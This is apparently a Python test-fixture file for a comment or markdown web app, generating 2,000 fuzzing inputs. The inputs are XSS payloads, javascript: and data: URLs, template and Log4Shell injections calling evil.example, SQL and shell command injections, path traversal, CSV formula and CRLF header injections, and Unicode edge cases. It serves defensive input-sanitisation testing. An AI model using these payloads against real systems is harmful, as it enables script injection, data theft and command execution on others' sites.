"""Two thousand texts that have broken something somewhere: famous ones, and generated ones.

The generated ones are drawn from a fixed seed, so that each run has the same. Not by hypothesis,
which takes 8 s of a processor for them: no smaller example is looked for when one fails.
"""

from collections.abc import Iterator
from functools import cache
from random import Random

SCRIPT = "window.wasRun = true"
ADDRESSES = [
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f" javascript:{SCRIPT}",
    f"\x01javascript:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"java\nscript:{SCRIPT}",
    f"java\u200bscript:{SCRIPT}",
    f"&#106;avascript:{SCRIPT}",
    f"&#x6A;avascript&colon;{SCRIPT}",
    f"javascript&#58;{SCRIPT}",
    f"javascript%3A{SCRIPT}",
    f"ｊavascript:{SCRIPT}",
    f"javascript://example.org/%0A{SCRIPT}",
    f"vbscript:{SCRIPT}",
    f"view-source:javascript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    f"data:text/html;base64,PHNjcmlwdD4={SCRIPT}",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example\\share",
    "https:evil.example",
    "https:/evil.example",
    "https://example.org@evil.example/",
    "https://user:secret@evil.example/",
    "https://evil.example\u2044@example.org",
    "https://xn--pple-43d.example/",
    "https://аррӏе.example/",
    "https://[::1]/",
    "https://[",
    "https://evil.example:99999/",
    "https://evil.example/\u202egpj.exe",
    f'https://example.org/" onmouseover="{SCRIPT}',
    f"https://example.org/' onmouseover='{SCRIPT}",
    f"https://example.org/><img src=x onerror={SCRIPT}>",
    "mailto:nora@example.org?bcc=everybody@example.org",
    "tel:+441234",
    "ftp://example.org/",
]
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "[x]({} 'title')",
    '[x]({} "onclick=1")',
    "![x]({})",
    "<{}>",
    "{}",
    "[x][1]\n\n[1]: {}",
    "[![x]({})]({})",
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<base href="{}">',
]
TAGS = [
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt >{SCRIPT}</sCrIpT\t>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"<script\x00>{SCRIPT}</script>",
    "<script src=https://evil.example/x.js></script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</title><script>{SCRIPT}</script>",
    f"</style><script>{SCRIPT}</script>",
    f"--><script>{SCRIPT}</script><!--",
    f"]]><script>{SCRIPT}</script>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{SCRIPT}'><text>x</text></a></svg>",
    f"<svg><foreignObject><body onload={SCRIPT}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={SCRIPT}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}>",
    f"<math><mi//xlink:href='data:x,<script>{SCRIPT}</script>'>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<template><img src=x onerror={SCRIPT}></template>",
    f"<iframe srcdoc='<script>{SCRIPT}</script>'></iframe>",
    f"<object data='data:text/html,<script>{SCRIPT}</script>'></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta charset=utf-7>+ADw-script+AD4-",
    "<img src=https://evil.example/x.png>",
    "<picture><source srcset=https://evil.example/x.png></picture>",
    "<video poster=https://evil.example/x.png>",
    "<input autofocus onfocus=1>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<![CDATA[",
    "<?php echo 1; ?>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "<a href=x",
    '<a href="',
    "<",
    "</",
    "<>",
    "&",
    "&#0;",
    "&#xD800;",
    "&#x110000;",
    "&lt;script&gt;",
    "&amp;lt;script&amp;gt;",
    "&notit;",
]  # fmt: skip
EVENTS = ["onclick", "onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onpointerenter"]
ELEMENTS = ["img src=x", "svg", "body", "details open", "input autofocus", "marquee", "video", "p"]
INJECTIONS = [
    "{{ settings.SECRET_KEY }}",
    "{% include '/etc/passwd' %}",
    "{% csrf_token %}",
    "{# #}",
    "{{",
    "%}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://evil.example/x}",
    "%s%s%s%n%x",
    "%(name)s",
    "{0.__class__.__init__.__globals__}",
    "{0:99999999999d}",
    "'; DROP TABLE comments_comment; --",
    "' OR 1=1 --",
    '" OR ""="',
    "\\'; SELECT pg_sleep(5); --",
    "1; ATTACH DATABASE '/tmp/x' AS x;",
    "$(touch /tmp/x)",
    "`touch /tmp/x`",
    "| cat /etc/passwd",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\r\nSet-Cookie: a=b",
    "\r\nBcc: everybody@example.org\r\n\r\nBuy.",
    "null",
    "None",
    "undefined",
    "NaN",
    "-0",
    "1e309",
    "true",
    "[]",
    "__proto__",
    "CON",
]
SIGNS = [
    "\u202e" + "text turned round",
    "\u202d\u202a\u2066\u2069\u2068",
    "\u200e\u200f\u061c",
    "\u200b\u200c\u200d\u2060\ufeff",
    "👩\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "Z" + "\u0351\u0300\u0489" * 300 + "algo",
    "\ufdfa" * 100,
    "𒐫" * 50,
    "\U0001f4a9" * 1000,
    "\U0001f4a9" * 3000,
    "語" * 3000,
    "a" * 3000,
    "a" * 3001,
    "a" * 10_000,
    "a b " * 749,
    "\n" * 2999 + "x",
    " " * 2999 + "x",
    "\u00a0" * 10,
    "\u3164",
    "\u2028\u2029\x85\x0b\x0c",
    "\ufffe\uffff\U0001ffff\U0010ffff",
    "\ufdd0\ufdef",
    "\u0378\u0379\U000e0080",
    "\ue000\U000f0000",
    "\ufffd",
    "ﬁ ſ ẞ İ ı K Å",
    "e\u0301 é",
    "\U00013000\U0001f9ff\U00020000",
    "سلام https://example.org שלום",
]
NESTED = [
    "> " * 1000 + "x",
    "- " * 1000 + "x",
    "1. " * 900 + "x",
    "*" * 3000,
    "_" * 2999,
    "*a " * 1000,
    "**a *b " * 400,
    "`" * 3000,
    "``` \n" * 500,
    "[" * 3000,
    "[a](" * 700,
    "![" * 1500,
    "](" * 1500,
    "<" * 3000,
    "<a " * 1000,
    "&" * 3000,
    "&amp;" * 600,
    "\\" * 3000,
    "|a" * 1500,
    "# " * 1000,
    "a\n---\n" * 400,
    "> - > - " * 300 + "x",
    "".join(" " * n + "- x\n" for n in range(70)),
    "https://a." * 300,
    "http://" * 400,
    "a@b." * 700,
    "99999999999999999999. x",
    "- [ ] x\n- [x] y",
    "[^1]\n\n[^1]: x",
    "a | b\n- | -\n1 | 2",
    "~~x~~ ==y== ^z^ ~w~",
    "Title\n=====",
    "    indented code",
    "```html\n<script>1</script>\n```",
]
CHARACTERS = [chr(n) for n in (*range(0x20), *range(0x7F, 0xA0))] + [
    "\u00ad", "\u034f", "\u180e", "\u2061", "\ufe0f", "\ufff9", "\U000e0001",
]  # fmt: skip
TOTAL = 2000
DRAWN = 1600  # some come twice


@cache
def texts() -> list[str]:
    """Two thousand texts, each another; every one can be sent in a form, as UTF-8."""
    found = famous()
    found += [link.replace("{}", address) for link in LINKS for address in ADDRESSES]
    found += [f"<{element} {event}={SCRIPT}>x" for element in ELEMENTS for event in EVENTS]
    found += [f"before{char}after <b{char}onclick{char}=1>" for char in CHARACTERS]
    found += _drawn(DRAWN, like=found)
    return list(dict.fromkeys(found))[:TOTAL]


def _drawn(total: int, like: list[str]) -> Iterator[str]:
    """Characters of every kind, and pieces of the famous ones put together anew."""
    chance = Random(11)
    signs = "<>\"'&;=/\\`*_[]()!#-+.|~{}%$\n\t "
    kinds = (
        lambda: _any_character(chance),
        lambda: chance.choice(signs),
        lambda: chance.choice(like)[:60],
    )
    for n in range(total):
        # A quarter of each kind, and a quarter of all kinds mixed.
        some = kinds if n % 4 == 3 else (kinds[n % 4],)
        yield "".join(chance.choice(some)() for _ in range(chance.randint(1, 12)))


def _any_character(chance: Random) -> str:
    """One in two from the first planes' first thousands, which have more that means something."""
    code = chance.randrange(0x3000) if chance.random() < 0.5 else chance.randrange(0x110000)
    return "\ufffd" if 0xD800 <= code < 0xE000 else chr(code)  # no halves of a pair in UTF-8


def famous() -> list[str]:
    """Those that are worth a request each."""
    return [*TAGS, *INJECTIONS, *SIGNS, *NESTED]


def together(each: int = 2900) -> list[str]:
    """The same texts, as many in one as a comment has room for; those that are too long, cut."""
    found, current = [], ""
    for text in texts():
        if len(current) + len(text) + 2 > each:
            found.append(current)
            current = ""
        current = f"{current}\n\n{text[:each]}"
    return [*found, current]
